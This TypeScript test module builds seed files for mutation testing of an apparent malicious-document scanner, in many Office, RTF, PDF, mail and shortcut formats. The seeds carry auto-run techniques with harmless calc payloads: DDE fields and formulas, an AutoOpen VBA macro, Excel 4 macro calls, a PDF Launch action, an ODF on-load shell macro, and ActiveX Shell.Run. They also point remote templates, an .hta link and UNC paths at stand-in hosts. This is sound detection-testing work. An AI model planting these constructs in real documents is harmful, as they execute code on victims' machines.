// One small document of each format that is read as a whole, with what its reader looks for: for mutation.
import { followed } from './cell-formulas.ts'
import { compoundOf } from './compound.ts'
import {
  encryptedLetters,
  encryptedPackage,
  encryptedPresentation,
  encryptedWorkbooks,
} from './encrypted.ts'
import { emlOf, msgOf } from './mail.ts'
import { addressLink, embeddedOle, nativeOf, packageOf } from './ole.ts'
import { oneOf } from './onenote.ts'
import { pptOf } from './powerpoint-binary.ts'
import { rtfField, rtfObject, rtfOf } from './rtf.ts'
import { relationsOf } from './ooxml.ts'
import {
  excel2003,
  lnkOf,
  odfContent,
  odfOf,
  odsDde,
  odsFormula,
  pdfOf,
  word2003,
  xlsbOf,
  xlsxOf,
} from './samples.ts'
import {
  difTable,
  odsTable,
  type Table,
  xlsbTable,
  xlsTable,
  xlsxTable,
} from './sheets.ts'
import { vbaStreams } from './vba.ts'
import { docxOf, field, paragraph } from './word.ts'
import { vsdOf } from './visio-binary.ts'
import { docField, docOf } from './word-binary.ts'
import { book, ptg, record, u16, u8, xlsOf } from './workbook-binary.ts'

const dde = 'DDEAUTO cmd "/k calc"'
const script = packageOf('a.js', Buffer.from('WScript.Echo(1)'))

function binarySeeds(): Readonly<Record<string, Buffer>> {
  const object = compoundOf({
    streams: {
      '[1]Ole': addressLink('http://example.test/a.hta'),
      'ObjectPool/_1/[1]Ole10Native': nativeOf(script),
    },
    classes: { 'ObjectPool/_1': '0003000C-0000-0000-C000-000000000046' },
  })
  const module = {
    name: 'M',
    source: 'Sub AutoOpen()\r\nShell "x"\r\nEnd Sub\r\n',
    compiled: 'Shell "cmd /c"\r\n',
  }
  const doc = docOf({
    text: `a ${docField(`${docField('SET x "cmd"')}${dde}`)}`,
    headers: docField(dde),
    pieceLength: 5,
    streams: vbaStreams('Macros/', [module]),
  })
  const exec = Buffer.concat([
    ptg.text('cmd'),
    ptg.number(46),
    ptg.fixed(111),
    ptg.join,
    ptg.cell(1, 1),
    ptg.join,
    ptg.call(110, 1),
  ])
  const globals = [
    book('cmd\x03/c calc', ['A0']),
    book('\x01\x01Ca\x03b.xls', ['t'], 1),
  ]
  const xls = xlsOf({
    globals,
    sheets: [
      { name: 'S', formulas: [ptg.external(0, 1)] },
      { name: 'M', isMacro: true, hidden: 2, formulas: [exec, exec] },
    ],
  })
  const rtf = rtfOf(
    `${rtfField(dde)}${rtfObject('Package', embeddedOle('Package', script))}${rtfObject('W', embeddedOle('OLE2Link', object))}{\\*\\template http://example.test/t}`,
  )
  return {
    'letter.doc': doc,
    'book.xls': xls,
    'object.bin': object,
    'letter.rtf': rtf,
  }
}

const link = { service: 'cmd', topic: '/k calc', item: 'A0' }
const formula = "=cmd|'/k calc'!A0"

function packageSeeds(attached: Buffer): Readonly<Record<string, Buffer>> {
  const body = paragraph(
    field('SET x "cmd"') + field('DDE ', field('REF x'), ' "/k calc"'),
  )
  const shortcut = '[InternetShortcut]\r\nURL=file://198.51.100.7/a\r\n'
  return {
    'letter.docx': docxOf(body, {
      'word/embeddings/a.bin': { content: attached },
      'word/_rels/document.xml.rels': {
        content: relationsOf({
          id: 'r1',
          type: 'oleObject',
          target: 'embeddings/a.bin',
        }),
      },
    }),
    'book.xlsx': xlsxOf({ A1: 'cmd', B2: formula }, { link }),
    'book.xlsb': xlsbOf(link, Buffer.from([0x1e, 1, 0])),
    'sheet.ods': odfOf('spreadsheet', odsFormula('=DDE("a";"b";"c")')),
    'links.ods': odfOf('spreadsheet', odsDde(link)),
    'letter.xml': Buffer.from(word2003(body)),
    'book.xml': Buffer.from(excel2003(formula, 'cmd|/k calc')),
    'cells.csv': Buffer.from(`a,b\n1,"${formula}"\n`),
    'cells.slk': Buffer.from(`ID;P\nC;Y1;X1;E${formula.slice(1)}\nE\n`),
    'page.pdf': Buffer.from(
      pdfOf('<</OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>>>'),
    ),
    'a.url': Buffer.from(shortcut),
    'a.library-ms': Buffer.from(
      '<libraryDescription><url>\\\\host\\x</url><iconReference>a.ico</iconReference></libraryDescription>',
    ),
    'a.lnk': lnkOf('..\\cmd.exe', '/c calc'),
  }
}

function logSeeds(): Readonly<Record<string, Buffer>> {
  const table: Table = [
    ['TimeCreated', 'EventID', 'Channel', 'Computer', 'CommandLine'],
    [
      { day: 46_024.5 },
      1,
      'Microsoft-Windows-Sysmon/Operational',
      'ws1',
      'a "b"',
    ],
  ]
  return {
    'log.xlsx': xlsxTable(table),
    'log.xlsb': xlsbTable(table),
    'log.xls': xlsTable(table),
    'log.ods': odsTable(table),
    'log.dif': difTable(table),
  }
}

/** A macro sheet of Excel 4 with a conversation. */
const earlyBook = Buffer.concat([
  record(0x0409, u16(4, 0x40, 0)),
  record(0x0017, u8(11), Buffer.from('cmd\x03/c calc')),
  record(
    0x0406,
    u16(0, 0, 0),
    Buffer.alloc(8),
    u16(0, 9),
    Buffer.from([0x17, 4, 99, 97, 108, 99, 0x41, 110, 0]),
  ),
  record(0x000a),
])

export function documentSeeds(): readonly { name: string; bytes: Buffer }[] {
  const binary = binarySeeds()
  const attached = Object.entries(binary).map(([name, data]) => ({
    name,
    data,
  }))
  const all = {
    ...binary,
    ...packageSeeds(binary['object.bin']!),
    ...logSeeds(),
    'mail.eml': emlOf(attached),
    'mail.msg': msgOf(attached.slice(0, 1)),
    'notes.one': oneOf(attached.slice(3)),
    'plan.vsd': vsdOf({
      shapes: [Buffer.from('\\\\203.0.113.9\\share\\a.vss', 'utf16le')],
      objectParts: [docOf({ text: docField('DDEAUTO cmd "/k calc"') })],
    }),
    'show.ppt': pptOf({
      links: ['http://example.test/'],
      programs: ['cmd'],
      objects: [binary['letter.doc']!],
    }),
    'locked.xls': encryptedWorkbooks.XOR!('VelvetSweatshop', []),
    'locked.docx': encryptedPackage('VelvetSweatshop', Buffer.alloc(5000, 1)),
    'locked.ppt': encryptedPresentation('VelvetSweatshop', {
      programs: ['cmd'],
    }),
    'locked.doc': encryptedLetters.XOR!('VelvetSweatshop', 'Dear all'),
    'early.xls': earlyBook,
    'page.xls': Buffer.from(
      `<html xmlns:x="urn:schemas-microsoft-com:office:excel"><td x:fmla="=cmd|'/k calc'!A0">1</td><td>=cmd|'/k calc'!A0</td><iframe src="http://a/"></iframe></html>`,
    ),
    ...Object.fromEntries(
      Object.entries(followed).map(([kind, make]) => [
        `followed ${kind.replaceAll(/\W+/g, '-')}`,
        make(),
      ]),
    ),
    'page.doc': Buffer.from(
      `<html xmlns:w="urn:schemas-microsoft-com:office:word"><base href="http://a.test/"><link rel=Attached-Template href=t.dotm><a name=b>cmd</a><!--[if supportFields]><span style='mso-element&#58;field-begin'></span>DDE cmd "/k calc"<span style='mso-element:field-end'></span><![endif]--><object classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>`,
    ),
    'macros.fodt': Buffer.from(
      odfContent('<office:text/>', 'document').replace(
        '<office:body>',
        `<office:scripts><office:script script:language="ooo:Basic">Sub Main\n  createUnoService("com.sun.star.system.SystemShellExecute").execute("cmd", "/c calc", 0)\nEnd Sub</office:script><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:S.M.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts><office:body>`,
      ),
    ),
    'drawing.vdx': Buffer.from(
      "<VisioDocument xmlns='http://schemas.microsoft.com/visio/2003/core'><Event><EventDblClick F='RUNADDON(\"a\")'/></Event><Hyperlink><Address>http://a/</Address></Hyperlink></VisioDocument>",
    ),
  }
  return Object.entries(all).map(([name, bytes]) => ({ name, bytes }))
}
